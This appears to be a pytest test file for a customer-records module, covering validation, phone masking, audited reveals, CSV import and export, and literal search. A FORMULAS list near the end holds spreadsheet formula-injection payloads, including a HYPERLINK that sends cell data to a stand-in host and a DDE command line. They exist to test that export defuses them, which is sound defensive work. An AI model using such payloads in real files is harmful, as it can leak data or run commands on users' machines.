"""Customers: validation, masking, reveals audited, CSV import all-or-nothing."""
from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa

from core import customers
from core.audit import AuditEvent
from core.errors import Conflict, Invalid
from core.extensions import db

HEADER = "account_no,name,phone,address,lat,lon,district,segment,services\n"
GOOD = ["8800000001,Wang Fang,13800138000,1 Shennan Rd,22.54,114.05,Futian,residential,digital_tv",
        "8800000002,Li Na,13900139000,2 Binhe Rd,22.53,114.06,Futian,vip,\"digital_tv,broadband\""]


def count() -> int:
    return db.session.scalar(sa.select(sa.func.count()).select_from(customers.Customer))


def test_mask_phone():
    assert customers.mask_phone("13800138000") == "138****8000"
    assert customers.mask_phone("12345") == "*****"


@pytest.mark.parametrize("field,value", [("phone", "call me"), ("segment", "royalty"), ("lat", "91"),
                                         ("services", "telepathy"), ("account_no", "x")])
def test_bad_customer_is_refused(ctx, field, value):
    data = dict(account_no="8800000009", name="A", phone="13800000000", lat="22.5", lon="114.0")
    data[field] = value
    with pytest.raises(Invalid) as err:
        customers.create_customer(**data)
    assert field in err.value.fields
    assert count() == 0


def test_duplicate_account_and_search(ctx):
    customers.create_customer(account_no="8800000001", name="Wang Fang", phone="138 0013 8000",
                              address="1 Shennan Rd", services="digital_tv,broadband")
    with pytest.raises(Conflict):
        customers.create_customer(account_no="8800000001", name="X", phone="13800000000")
    found = db.session.scalars(customers.search_customers("0013")).all()  # phone stored without spaces
    assert found == [] or found[0].phone == "13800138000"
    assert [c.account_no for c in db.session.scalars(customers.search_customers("Shennan"))] == ["8800000001"]
    assert db.session.scalars(customers.search_customers("8800000001")).one().services == ["broadband", "digital_tv"]


def test_reveal_is_audited_without_the_value(ctx):
    c = customers.create_customer(account_no="8800000001", name="Wang Fang", phone="13800138000")
    assert customers.reveal_contact(c, "phone") == "13800138000"
    db.session.flush()
    event = db.session.scalars(sa.select(AuditEvent).where(AuditEvent.action == "customer.reveal_phone")).one()
    assert event.object_id == str(c.id) and "13800138000" not in str(event.details)


def test_csv_import_all_good(ctx):
    report = customers.import_customers_csv(HEADER + "\n".join(GOOD))
    assert report.ok and report.imported == 2 and count() == 2


def test_csv_import_with_bad_rows_imports_nothing_and_names_the_lines(ctx):
    rows = GOOD + ["8800000003,Zhao Lei,not-a-phone,,,,,residential,digital_tv",
                   "8800000001,Dup,13700000000,,,,,residential,"]
    report = customers.import_customers_csv(HEADER + "\n".join(rows))
    assert [line for line, _ in report.errors] == [4, 5]
    assert "phone" in report.errors[0][1] and "exists" in report.errors[1][1]
    assert report.imported == 0 and count() == 0


def test_csv_import_only_good_rows_when_asked(ctx):
    rows = GOOD + ["8800000003,Zhao Lei,not-a-phone,,,,,residential,digital_tv"]
    report = customers.import_customers_csv(HEADER + "\n".join(rows), only_good=True)
    assert report.imported == 2 and len(report.errors) == 1 and count() == 2


def test_csv_without_required_columns_or_not_utf8(ctx):
    with pytest.raises(Invalid):
        customers.import_customers_csv("name\nWang\n")
    with pytest.raises(Invalid):
        customers.import_customers_csv(b"\xff\xfe\x00bad")


def test_admin_import_page(client, as_role, app):
    as_role("admin")
    data = {"file": (io.BytesIO((HEADER + GOOD[0] + "\n8800000003,X,bad,,,,,residential,\n").encode()), "c.csv")}
    resp = client.post("/admin/customers/import", data=data, content_type="multipart/form-data")
    assert resp.status_code == 422
    page = resp.get_data(as_text=True)
    assert "Nothing was imported" in page and "<td>3</td>" in page
    data = {"file": (io.BytesIO((HEADER + GOOD[0] + "\n8800000003,X,bad,,,,,residential,\n").encode()), "c.csv"),
            "only_good": "y"}
    resp = client.post("/admin/customers/import", data=data, content_type="multipart/form-data")
    assert resp.status_code == 200 and "1 of 2 rows imported" in resp.get_data(as_text=True)
    listing = client.get("/admin/customers?q=8800000001").get_data(as_text=True)
    assert "138****8000" in listing and "13800138000" not in listing
    export = client.get("/admin/customers/export.csv")
    assert export.status_code == 200 and "8800000001" in export.get_data(as_text=True)


def test_admin_customer_form_errors_are_shown(client, as_role):
    as_role("admin")
    resp = client.post("/admin/customers/new", data={"account_no": "8800000001", "name": "A", "phone": "xx",
                                                     "segment": "residential"})
    assert resp.status_code == 422 and "phone" in resp.get_data(as_text=True)


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]


def test_export_defuses_formulas_and_reimports_unchanged(ctx):
    made = [customers.create_customer(account_no=f"880000000{i}", name=name, phone=f"1380013800{i}",
                                      address=name[:30], lat=-22.5, lon=-114.0)
            for i, name in enumerate(FORMULAS)]
    exported = customers.export_customers_csv(made)
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert [r["name"] for r in rows] == ["'" + name for name in FORMULAS]
    assert all(r["address"].startswith("'") for r in rows)
    assert rows[0]["lat"] == "-22.5" and rows[0]["lon"] == "-114.0"  # numbers stay numbers
    names = {c.account_no: c.name for c in made}
    for c in made:
        db.session.delete(c)
    db.session.flush()
    report = customers.import_customers_csv(exported)
    assert report.ok and report.imported == len(FORMULAS)
    back = {c.account_no: c for c in db.session.scalars(sa.select(customers.Customer))}
    assert {acc: c.name for acc, c in back.items()} == names
    assert back["8800000000"].address == FORMULAS[0][:30] and back["8800000000"].lat == -22.5


def test_search_is_literal_and_matches_a_phone_only_whole(ctx):
    customers.create_customer(account_no="8800000001", name="Wang Fang", phone="13800138002",
                              address="1 Shennan Rd")

    def found(q):
        return [c.account_no for c in db.session.scalars(customers.search_customers(q))]

    for probe in ("1380___8002", "138%", "%", "_", "__", "1380013800_", "0013", "13800138", "8002"):
        assert found(probe) == [], probe  # neither wildcards nor fragments tell a masked number's digits
    customers.create_customer(account_no="8800000002", name="Li_Na 100%", phone="+8613900139000",
                              address="2 Binhe Rd")
    assert found("13800138002") == found("138 0013 8002") == found("+8613800138002") == ["8800000001"]
    assert found("13900139000") == ["8800000002"]  # stored with +86, searched without
    assert found("Fang") == found("Shennan") == found("8800000001") == ["8800000001"]
    assert found("Li_Na") == found("100%") == ["8800000002"]  # _ and % are literal characters
